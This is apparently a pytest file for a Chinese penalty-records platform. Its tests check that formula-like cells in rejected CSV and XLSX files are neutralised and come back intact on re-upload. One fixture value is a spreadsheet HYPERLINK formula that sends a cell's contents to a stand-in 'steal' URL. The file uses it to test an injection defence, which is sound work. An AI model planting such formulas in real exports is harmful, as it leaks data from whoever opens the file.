"""issue 11 item 15: cells that a spreadsheet would run as formulas (= + - @, tab, CR) are
neutralised in every file the platform writes, and the clerk's value comes back intact."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from tests.factories import penalty_row, write_csv
from xinyong.collection import service
from xinyong.collection.cells import spreadsheet_text, xlsx_row
from xinyong.records.models import Record

pytestmark = pytest.mark.usefixtures("received")

FORMULAS = {
    "违法事实": '=HYPERLINK("http://example.com/steal?"&A2,"点击")',
    "处罚依据": "+1+2",
    "法定代表人": "@SUM(1)",
    "处罚内容": "-2+3",
}


def _bad_rows() -> list[dict[str, str]]:
    return [penalty_row(**FORMULAS, **{"处罚类别": "打板子"})]


def _rejected(sessions, receipt) -> bytes:  # type: ignore[no-untyped-def]
    out = io.BytesIO()
    with sessions() as session, session.begin():
        batch = service.get_batch(session, receipt.batch_id)
        service.write_rejections(session, batch, out, "test")
    return out.getvalue()


def test_formula_cells_in_a_rejected_csv_are_neutralised_and_come_back_as_sent(
    sessions, department, tmp_path
):
    """issue 11 item 15: CSV cells get a leading apostrophe; sent again, they are the value."""
    path = write_csv(tmp_path / "p.csv", _bad_rows())
    receipt = service.ingest(sessions, path, "xzcf", department)
    assert receipt.rejected == 1
    (row,) = csv.DictReader(io.StringIO(_rejected(sessions, receipt).decode("utf-8")))
    for label, value in FORMULAS.items():
        assert row[label] == "'" + value
    row["处罚类别"] = "罚款"
    del row["错误原因"]
    again = write_csv(tmp_path / "again.csv", [row])
    assert service.ingest(sessions, again, "xzcf", department).new == 1
    with sessions() as session:
        payload = session.scalars(select(Record.payload)).one()
    assert payload["cf_sy"] == FORMULAS["违法事实"]


def test_formula_text_in_a_rejected_xlsx_is_a_string_cell_never_a_formula(
    sessions, department, tmp_path
):
    """issue 11 item 15: openpyxl turned text beginning with = into a formula."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("处罚")
    row = _bad_rows()[0]
    sheet.append(list(row))
    sheet.append(xlsx_row(sheet, row.values()))  # text, as a clerk's spreadsheet holds it
    path = tmp_path / "p.xlsx"
    workbook.save(path)
    receipt = service.ingest(sessions, path, "xzcf", department)
    assert receipt.rejected == 1
    rejected = tmp_path / "rejected.xlsx"
    rejected.write_bytes(_rejected(sessions, receipt))
    sheet = load_workbook(rejected).active
    headers = [cell.value for cell in sheet[1]]
    for label, value in FORMULAS.items():
        cell = sheet[2][headers.index(label)]
        assert (cell.data_type, cell.value) == ("s", value)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("-5", "-5"),
        ("+8613800000000", "+8613800000000"),
        ("正常文字", "正常文字"),
        ("", ""),
    ],
)
def test_the_shared_cell_function_marks_only_what_a_spreadsheet_would_run(value, written):
    """issue 11 item 15: one function for every writer; plain numbers stay as they are."""
    assert spreadsheet_text(value) == written
